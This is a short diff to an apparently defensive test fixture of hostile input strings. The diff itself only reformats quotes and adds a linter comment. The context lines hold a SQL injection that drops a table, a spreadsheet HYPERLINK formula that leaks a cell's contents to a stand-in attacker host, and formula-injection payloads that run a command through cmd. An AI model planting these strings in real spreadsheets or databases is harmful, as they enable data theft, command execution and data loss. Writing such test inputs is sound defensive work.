@@ -61,7 +61,7 @@ HOSTILE_TEXTS: Mapping[str, str] = {
     # databases and spreadsheets
     "sql": "'; DROP TABLE events; -- \" OR 1=1",
     "like pattern": "%_\\%[a-z]*?",
-    "formula": "=HYPERLINK(\"http://evil.example?\"&A1,\"see\")",
+    "formula": '=HYPERLINK("http://evil.example?"&A1,"see")',
     "formula by command": "@SUM(1+9)*cmd|' /C calc'!A0",
     "formula by minus": "-2+3+cmd|' /C calc'!A0",
     "formula after a tab": "\t=1+1",
@@ -81,7 +81,7 @@ HOSTILE_TEXTS: Mapping[str, str] = {
     "marks": "Z\u0351\u036b\u0343\u036a\u0302" * 12,
     "emoji": "👩‍👩‍👧‍👦🏳️‍🌈👍🏽🇺🇳" * 4,
     "right to left": "مرحبا بالعالم (שלום) 123",
-    "look-alikes": "аdmin Ⅷ ﬁ ｓｃｒｉｐｔ＞ ﹤script﹥",
+    "look-alikes": "аdmin Ⅷ ﬁ ｓｃｒｉｐｔ＞ ﹤script﹥",  # noqa: RUF001
     # lengths
     "one long word": "W" * 900,
     "long words of marks": "\u0bcc" * 400,
